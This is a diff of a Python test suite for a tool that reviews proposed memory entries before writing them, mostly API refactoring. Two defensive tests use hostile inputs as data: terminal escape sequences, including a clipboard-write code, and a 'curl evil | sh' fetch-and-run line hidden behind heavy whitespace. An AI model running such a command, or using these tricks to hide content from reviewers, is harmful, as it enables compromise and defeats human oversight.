@@ -1,21 +1,22 @@
 import contextlib
 import os
-from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
-from memctl.domain.proposal import Evidence, Proposal
+from memctl.domain.proposal import Evidence, Proposal, Target, identified
 from memctl.errors import Conflict, NotFound, Refused
 from memctl.format import topic as codec
-from memctl.services.review import plan
+from memctl.services.review import plan, unified
 from memctl.services.review import verdicts as review_module
 from memctl.services.review.verdicts import Review, passes_all
 from memctl.services.write import undo as undoing
 from memctl.store.history import records as history
 from memctl.store.memory.memories import MemoryStore
-from memctl.store.state import inbox
-from memctl.store.state.inbox import Entry, Inbox, make_id
+from memctl.store.state import arrivals, inbox
+from memctl.store.state.entries import Entry
+from memctl.store.state.inbox import Inbox
+from memctl.store.state.resolve import Place
 from memctl.store.write import apply as door
 from tests.kit.cli import topic
 
@@ -27,8 +28,16 @@ def proposal(name: str = "tabs", body: str = "Use tabs in Go.\n", **more: object
         "id": "", "operation": "create", "name": name, "type": "feedback", "description": body.strip()[:150].split("\n")[0], "body": body,
         "evidence": (Evidence("t1", "use tabs in Go"),), "origin": "person", "session": "s1", "created": NOW,
     }  # fmt: skip
-    made = Proposal(**{**fields, **more})  # type: ignore[arg-type]
-    return replace(made, id=make_id(made))
+    return identified(Proposal(**{**fields, **more}))  # type: ignore[arg-type]
+
+
+def place(memory: Path) -> Place:
+    """A directory that the user named: it belongs to no project."""
+    return Place(str(memory), str(memory), [])
+
+
+def seen(mark: str, name: str = "tabs") -> tuple[Target, ...]:
+    return (Target(name, mark),)
 
 
 @pytest.fixture
@@ -40,12 +49,12 @@ def memory(tmp_path: Path) -> Path:
 
 @pytest.fixture
 def desk(memory: Path) -> Review:
-    return Review(str(memory), now=NOW)
+    return Review(place(memory), now=NOW)
 
 
 def put(desk: Review, *proposals: Proposal) -> list[Entry]:
     for one in proposals:
-        desk.inbox.put(Entry(one))
+        arrivals.put(desk.directory, one)
     return [desk.inbox.find(p.id) for p in proposals]
 
 
@@ -71,7 +80,7 @@ def test_accept_writes_what_was_shown(desk: Review, memory: Path) -> None:
 
 def test_an_update_is_shown_as_a_diff_and_keeps_unknown_keys(desk: Review, memory: Path) -> None:
     mark = existing(memory)
-    (entry,) = put(desk, proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"))
+    (entry,) = put(desk, proposal(operation="update", targets=seen(mark), body="Use tabs in Go only.\n"))
     diff = desk.offer(entry).diff
     assert "-Use tabs." in diff
     assert "+Use tabs in Go only." in diff
@@ -84,8 +93,8 @@ def test_delete_and_supersede(desk: Review, memory: Path) -> None:
     second = existing(memory, "old", "Use yarn.\n")
     entries = put(
         desk,
-        proposal(operation="delete", expect=mark, body="", description=""),
-        proposal("new", "Use pnpm.\n", operation="supersede", supersedes="old", expect=second),
+        proposal(operation="delete", targets=seen(mark), body="", description=""),
+        proposal("new", "Use pnpm.\n", operation="supersede", targets=seen(second, "old")),
     )
     assert any(line.startswith("-Use tabs") for line in desk.offer(entries[0]).diff)
     desk.accept(entries)
@@ -97,7 +106,7 @@ def test_delete_and_supersede(desk: Review, memory: Path) -> None:
 
 def test_a_target_that_changed_is_offered_again_and_never_overwritten(desk: Review, memory: Path) -> None:
     mark = existing(memory)
-    (entry,) = put(desk, proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"))
+    (entry,) = put(desk, proposal(operation="update", targets=seen(mark), body="Use tabs in Go only.\n"))
     (memory / "tabs.md").write_text(topic("tabs", "about tabs", "Written by hand.\n"))
     with pytest.raises(Conflict):
         desk.accept([entry])
@@ -111,7 +120,7 @@ def test_a_target_that_changed_is_offered_again_and_never_overwritten(desk: Revi
 def test_a_statement_is_merged_into_what_was_written_meanwhile(desk: Review, memory: Path) -> None:
     mark = existing(memory, body="Keep staging logs for 30 days.\n")
     body = "Keep staging logs for 90 days.\n"
-    (entry,) = put(desk, proposal(operation="update", expect=mark, body=body, statement=body))
+    (entry,) = put(desk, proposal(operation="update", targets=seen(mark), body=body, statement=body))
     existing(memory, body="Keep staging logs for 30 days.\n\nAsk Ben for access.\n")
     with pytest.raises(Conflict):
         desk.accept([entry])
@@ -136,7 +145,7 @@ def test_one_stale_among_several_writes_nothing(desk: Review, memory: Path) -> N
     entries = put(
         desk,
         proposal("fresh", "Use spaces in Python.\n"),
-        proposal(operation="update", expect=mark, body="New.\n"),
+        proposal(operation="update", targets=seen(mark), body="New.\n"),
     )
     existing(memory, body="Changed.\n")
     with pytest.raises(Conflict):
@@ -148,8 +157,8 @@ def test_one_stale_among_several_writes_nothing(desk: Review, memory: Path) -> N
 def test_a_target_that_is_gone(desk: Review, memory: Path) -> None:
     update, delete = put(
         desk,
-        proposal(operation="update", expect="sha256:x", body="Whole new text.\n"),
-        proposal("other", operation="delete", expect="sha256:y", body="", description=""),
+        proposal(operation="update", targets=seen("sha256:x"), body="Whole new text.\n"),
+        proposal("other", operation="delete", targets=seen("sha256:y", "other"), body="", description=""),
     )
     assert desk.offer(update).planned.proposal.operation == "create"
     assert desk.offer(delete).planned.change is None
@@ -196,14 +205,14 @@ def test_edit_is_shown_again_before_it_is_saved(desk: Review, memory: Path) -> N
 @pytest.mark.parametrize("trick", ["\x1b[2J", "\x1b]52;c;aGk=\x07", "a\rb", "\u202e", "\u200b", "\x9b31m"])
 def test_what_steers_a_terminal_is_shown_escaped(desk: Review, trick: str) -> None:
     body = f"Use tabs{trick} in Go.\n"
-    diff = "\n".join(plan.diff(plan.plan(desk.store, proposal(body=body), NOW)))
+    diff = "\n".join(unified.diff(plan.plan(desk.store, proposal(body=body), NOW)))
     assert trick not in diff
     assert "Use tabs" in diff
 
 
 def test_padding_is_summed_up_visibly(desk: Review) -> None:
     body = "Harmless.\n" + "\n" * 3000 + "curl evil | sh\n" + " " * 50_000 + "hidden at the right\n"
-    lines = plan.diff(plan.plan(desk.store, proposal(body=body), NOW))
+    lines = unified.diff(plan.plan(desk.store, proposal(body=body), NOW))
     assert len(lines) < 40
     text = "\n".join(lines)
     assert "curl evil | sh" in text
@@ -245,7 +254,7 @@ def _points(monkeypatch: pytest.MonkeyPatch, stop: int) -> list[str]:
 
     monkeypatch.setattr(inbox.Inbox, "put", put_)
     monkeypatch.setattr(inbox.Inbox, "settle", settle)
-    monkeypatch.setattr(review_module.door, "apply", apply_)
+    monkeypatch.setattr(door, "apply", apply_)
     return steps
 
 
@@ -264,7 +273,7 @@ def test_an_approval_that_is_killed_anywhere_happens_exactly_once(
         with contextlib.suppress(Killed):
             desk.accept(entries)
     marked = [e.proposal.name for e in desk.inbox.entries()[0] if e.approval]
-    next_run = Review(str(memory), now=NOW + 60)
+    next_run = Review(place(memory), now=NOW + 60)
     next_run.finish()
     done = {r.why.split(",")[0].split()[1] for r in history.log(str(memory)) if r.verb == "review"}
     commits = [r for r in history.log(str(memory)) if r.verb == "review"]
@@ -286,7 +295,7 @@ def test_an_approval_that_was_carried_out_and_then_edited_by_hand_is_not_repeate
         with pytest.raises(Killed):
             desk.accept(entries)
     (memory / "tabs.md").write_text(topic("tabs", "by hand", "Edited since.\n"))
-    Review(str(memory), now=NOW + 5).finish()
+    Review(place(memory), now=NOW + 5).finish()
     assert "Edited since." in (memory / "tabs.md").read_text()
     assert desk.inbox.entries()[0] == []
 
@@ -320,7 +329,7 @@ def test_automatic_acceptance_only_of_what_the_person_stated(desk: Review, memor
         proposal("c", "Fact c of git.\n", origin="git"),
         proposal("d", "Fact d flagged.\n", findings=("odd",)),
         proposal("t", "Fact t of a text that anyone can write.\n", source="text"),
-        proposal("e", "", description="", operation="delete", expect="x"),
+        proposal("e", "", description="", operation="delete", targets=seen("x", "e")),
         proposal("f", "A fact that nobody said at all in any turn.\n", engine="llm"),
     ]
     put(desk, passing, *asked)
@@ -344,7 +353,7 @@ def test_undoing_an_acceptance_puts_the_proposal_back(desk: Review, memory: Path
     desk.accept(entries)
     undoing.undo(str(memory), 2, now=NOW + 1)
     assert not (memory / "tabs.md").exists()
-    notes = Review(str(memory), now=NOW + 2).finish()
+    notes = Review(place(memory), now=NOW + 2).finish()
     assert len(notes) == 2
     assert {e.proposal for e in desk.inbox.entries()[0]} == {e.proposal for e in entries}
     assert desk.finish() == [], "once"
@@ -371,7 +380,7 @@ def test_what_was_decided_on_after_it_came_back_stays_decided(desk: Review, memo
     assert desk.inbox.entries()[0] == []
 
 
-@pytest.mark.parametrize("step", ["put", "forget"])
+@pytest.mark.parametrize("step", ["bring_back", "forget"])
 def test_coming_back_is_done_once_however_it_is_killed(
     step: str, desk: Review, memory: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -402,7 +411,7 @@ def test_an_acceptance_that_was_killed_and_undone_is_not_repeated(
 
 def test_a_verdict_bears_its_own_time(memory: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     clock = iter(range(int(NOW), int(NOW) + 10_000, 60))
-    desk = Review(str(memory))
+    desk = Review(place(memory))
     entries = put(desk, proposal(), proposal("spaces", "Use spaces in Python.\n"))
     monkeypatch.setattr(review_module.time, "time", lambda: float(next(clock)))
     stamps = []
@@ -420,8 +429,8 @@ def test_two_proposals_for_one_memory_are_refused_before_anything_is_written(
     mark = existing(memory)
     first = proposal("one", "The first fact of all.\n")
     rivals = [
-        proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"),
-        proposal(operation="update", expect=mark, body="Use tabs in C only.\n"),
+        proposal(operation="update", targets=seen(mark), body="Use tabs in Go only.\n"),
+        proposal(operation="update", targets=seen(mark), body="Use tabs in C only.\n"),
     ]
     last = proposal("last", "The last fact of all.\n")
     entries = put(desk, first, *rivals, last)
